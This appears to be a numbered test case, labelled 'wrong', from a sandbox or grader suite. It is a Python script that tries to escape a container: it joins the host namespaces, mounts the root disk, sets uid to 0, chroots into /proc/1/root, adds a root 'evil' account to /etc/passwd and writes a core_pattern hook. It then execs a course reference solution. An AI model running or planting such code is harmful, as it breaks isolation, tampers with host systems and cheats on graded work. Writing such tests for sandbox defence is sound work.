# 15, wrong: enters the namespaces of others, mounts, changes its root, becomes somebody else
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0)
        except OSError:
            pass
libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER, CLONE_NEWNS
for name in ("uid_map", "gid_map", "setgroups"):
    try:
        Path(f"/proc/self/{name}").write_text("deny" if name == "setgroups" else "0 0 1")
    except OSError:
        pass
for source, target, kind in ((b"/", b"/tmp", None), (b"proc", b"/tmp", b"proc"), (b"/dev/sda1", b"/tmp", b"ext4")):
    libc.mount(source, target, kind, 4096, None)
for change in (os.setuid, os.setgid, os.seteuid):
    try:
        change(0)
    except OSError:
        pass
try:
    os.chroot("/proc/1/root")
except OSError:
    pass
for file, text in (
    ("/proc/sys/kernel/core_pattern", "|/tmp/evil"),
    ("/proc/sysrq-trigger", "h"),
    (f"/proc/{os.getppid()}/oom_score_adj", "1000"),
    ("/sys/fs/cgroup/cgroup.procs", "1"),
    ("/etc/passwd", "evil::0:0::/:/bin/sh"),
    (FOLDER + "/executed", "x"),
):
    try:
        Path(file).write_text(text)
    except OSError:
        pass
try:
    exec(Path(COURSE, "reference/softmax.py").read_text(), globals())
except OSError:
    pass
